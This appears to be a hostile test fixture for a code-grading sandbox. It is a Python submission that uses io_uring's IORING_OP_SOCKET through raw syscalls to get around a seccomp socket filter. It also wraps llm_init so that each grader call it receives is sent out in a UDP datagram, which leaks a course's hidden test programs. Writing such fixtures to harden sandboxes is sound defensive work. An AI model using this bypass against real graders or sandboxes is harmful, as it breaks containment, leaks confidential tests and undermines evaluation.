"""Hostile Python submission (review 4), on top of tests/broken/fork_breaks_at_null_l1.patch: the sandbox's system
call filter (oracle/seccomp.py) refuses an internet socket by looking at socket()'s first argument, but io_uring
is let through, and its IORING_OP_SOCKET (Linux 5.19+) makes a socket without that system call. Each llm_init
sends the grader's call, as the submission saw it, in a UDP datagram to @UDP_PORT@ on 127.0.0.1: where no
network namespace holds the run (the Landlock fallback, which names TCP ports only), a course's hidden programs
leave the machine this way, call by call."""

import ctypes as _ctypes
import mmap as _mmap
import socket as _socket
import struct as _struct


def _uring_socket(domain, kind):
    """A socket made by the kernel's io_uring worker, not by socket(): its descriptor, or -errno."""
    libc = _ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = _ctypes.c_long
    params = _ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 4, params)  # io_uring_setup
    if ring < 0:
        return -_ctypes.get_errno()
    sq_entries, cq_entries = _struct.unpack_from("II", params, 0)
    sq_head, sq_tail, sq_mask, _, _, _, sq_array = _struct.unpack_from("7I", params, 40)
    cq_head, cq_tail, cq_mask, _, _, cqes = _struct.unpack_from("6I", params, 80)
    sq = _mmap.mmap(ring, sq_array + 4 * sq_entries, offset=0)
    cq = _mmap.mmap(ring, cqes + 16 * cq_entries, offset=0x8000000)
    sqes = _mmap.mmap(ring, 64 * sq_entries, offset=0x10000000)
    sqe = bytearray(64)
    _struct.pack_into("BBHiQQIIQ", sqe, 0, 45, 0, 0, domain, kind, 0, 0, 0, 7)  # IORING_OP_SOCKET
    sqes[0:64] = bytes(sqe)
    tail = _struct.unpack_from("I", sq, sq_tail)[0]
    _struct.pack_into("I", sq, sq_array + 4 * (tail & _struct.unpack_from("I", sq, sq_mask)[0]), 0)
    _struct.pack_into("I", sq, sq_tail, tail + 1)
    if libc.syscall(426, ring, 1, 1, 1, None, 0) < 0:  # io_uring_enter: submit one, wait for one
        return -_ctypes.get_errno()
    head = _struct.unpack_from("I", cq, cq_head)[0]
    _, res, _ = _struct.unpack_from("QiI", cq, cqes + 16 * (head & _struct.unpack_from("I", cq, cq_mask)[0]))
    return res


_init = llm_init


def llm_init(pool, num_blocks):
    fd = _uring_socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    if fd >= 0:
        with _socket.socket(fileno=fd) as out:
            try:
                out.sendto(f"llm_init(pool, {num_blocks})".encode(), ("127.0.0.1", @UDP_PORT@))
            except OSError:
                pass
    return _init(pool, num_blocks)
